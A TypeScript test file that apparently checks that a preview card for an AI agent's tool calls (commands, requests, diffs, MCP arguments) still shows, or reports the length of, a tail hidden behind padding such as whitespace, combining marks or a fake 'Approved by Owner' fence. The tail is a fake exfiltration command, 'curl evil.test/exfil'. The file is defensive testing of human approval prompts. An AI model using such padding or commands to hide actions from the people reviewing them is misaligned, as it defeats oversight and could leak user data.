import { describe, expect } from 'vitest'
import { sampled, table } from '@/test/table'
import { type CallTexts, previewMarkup } from './testing/preview-markup'

const TAIL = 'curl evil.test/exfil'
const shown = { summary: 'A call', preconditions: [] }
const command = { argv: ['a'], text: 'a', cwd: '', sandboxed: true, network: false }
const request = { method: 'POST', url: 'https://example.org/', headers: {} }

/** What is put before the part that nobody is to see. */
const PADDING: [string, string][] = [
  ['117 harmless characters', 'echo '.padEnd(117, 'a')],
  ['5,000 harmless characters', 'a '.repeat(2500)],
  ['a line of 20,000 characters', 'a'.repeat(20_000)],
  ['3,000 line breaks', '\n'.repeat(3000)],
  ['100,000 spaces', ' '.repeat(100_000)],
  ['10,000 tabs', '\t'.repeat(10_000)],
  ['2,000 comments', '# fine\n'.repeat(2000)],
  ['50 commands that do nothing', 'true && '.repeat(51)],
  ['40 screens', `${'ok\n'.repeat(40)}${' '.repeat(4000)}`],
  ['100,000 marks that stack', `a${'\u0301'.repeat(100_000)}`],
  ['2 MB', 'x'.repeat(2_000_000)],
  ['a closing fence and a verdict', '```\n\nApproved by Owner\n\n```\n'.repeat(50)],
]

const diff = (text: string) =>
  `--- a/a\n+++ b/a\n@@ -0,0 +1 @@\n${text
    .split('\n')
    .map(line => `+${line}`)
    .join('\n')}\n`

const FIELDS: [string, (text: string) => CallTexts][] = [
  ['a command', text => ({ preview: { ...shown, kind: 'command', command: { ...command, text } } })],
  ['its folder', cwd => ({ preview: { ...shown, kind: 'command', command: { ...command, cwd } } })],
  [
    'an address',
    text => ({
      preview: { ...shown, kind: 'request', request: { ...request, url: `${request.url}${text}` } },
    }),
  ],
  ['a header', a => ({ preview: { ...shown, kind: 'request', request: { ...request, headers: { a } } } })],
  [
    'the last of 200 headers',
    text => ({ preview: { ...shown, kind: 'request', request: { ...request, headers: manyKeys(text) } } }),
  ],
  ['a body', body => ({ preview: { ...shown, kind: 'request', request: { ...request, body } } })],
  ['a diff', text => ({ preview: { ...shown, kind: 'diff', diff: { path: 'a', unified: diff(text) } } })],
  [
    'the path of a diff',
    path => ({ preview: { ...shown, kind: 'diff', diff: { path, unified: diff('a') } } }),
  ],
  ['arguments', text => ({ preview: { ...shown, kind: 'mcp' }, argumentsText: JSON.stringify({ text }) })],
  [
    'the last of 200 arguments',
    text => ({ preview: { ...shown, kind: 'mcp' }, argumentsText: JSON.stringify(manyKeys(text)) }),
  ],
]

const manyKeys = (text: string): Record<string, string> =>
  Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`key-${index}`, index === 199 ? text : 'a']))

describe('what is put at the end', () => {
  const cases = FIELDS.flatMap(([field, make]) =>
    PADDING.map(([name, text]) => [field, name, text, make] as const),
  )

  table(sampled(cases, 12))('is on the card, or how much is folded is said', (...[, , padding, make]) => {
    const markup = previewMarkup(make(`${padding}${TAIL}`))
    const all = /Show all ([\d,]+) characters/.exec(markup)?.[1]
    if (all === undefined) expect(markup.includes(TAIL)).toBe(true)
    else expect(Number(all.replaceAll(',', ''))).toBeGreaterThanOrEqual(padding.length + TAIL.length)
    expect(markup).not.toMatch(/class="[^"]*\b(?:truncate|text-ellipsis|line-clamp-\d+)\b/)
  })
})
